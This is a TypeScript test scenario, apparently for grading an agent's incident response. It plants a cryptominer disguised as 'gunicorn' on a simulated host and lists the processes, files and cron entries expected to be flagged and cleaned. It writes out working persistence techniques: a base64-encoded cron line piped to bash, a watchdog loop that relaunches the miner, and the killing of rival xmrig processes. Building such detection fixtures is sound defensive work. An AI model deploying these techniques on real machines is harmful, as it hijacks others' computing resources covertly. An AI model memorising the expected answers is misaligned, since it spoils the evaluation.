import { scenario } from '../scenario.ts';
import { addCron, base64, minerWords, serving } from '../words.ts';

export default scenario({
  what: 'a terminal in the browser, and a dropper with the name of a server',
  report:
    'An agent’s open web terminal: `pgrep -x NAME || echo … | base64 -d | bash`; gunicorn beside gunicorn.',
  plant: {
    accounts: ['dev'],
    images: [{ path: '/home/dev/.cache/unicorn', owner: 'dev' }],
    files: {
      '/home/dev/.cache/gunicorn': {
        text: `#!/bin/bash
while sleep 1; do
  pkill -9 -f '/opt/rival/[x]mrig'
  pgrep -x unicorn >/dev/null || { cd /home/dev/.cache && nohup ./unicorn ${minerWords} >/dev/null 2>&1 & }
done
`,
        owner: 'dev',
      },
      '/srv/api/gunicorn': serving(8000),
    },
    start: `${addCron('dev', [`*/5 * * * * pgrep -x unicorn >/dev/null || echo ${base64('/home/dev/.cache/gunicorn >/dev/null 2>&1 &\n')} | base64 -d | bash`])}
run /usr/bin/perl /srv/api/gunicorn
as dev /home/dev/.cache/gunicorn`,
    runs: ['/home/dev/.cache/unicorn', '/home/dev/.cache/gunicorn', '/srv/api/gunicorn'],
  },
  expect: {
    verdict: 'confirmed',
    ticked: {
      processes: ['/home/dev/.cache/gunicorn', '/home/dev/.cache/unicorn'],
      files: ['/home/dev/.cache/gunicorn', '/home/dev/.cache/unicorn'],
      starters: [
        `*/5 * * * * pgrep -x unicorn >/dev/null || echo ${base64('/home/dev/.cache/gunicorn >/dev/null 2>&1 &\n')} | base64 -d | bash`,
      ],
    },
    stays: ['/srv/api/gunicorn'],
    resolution: 'cleaned',
  },
});
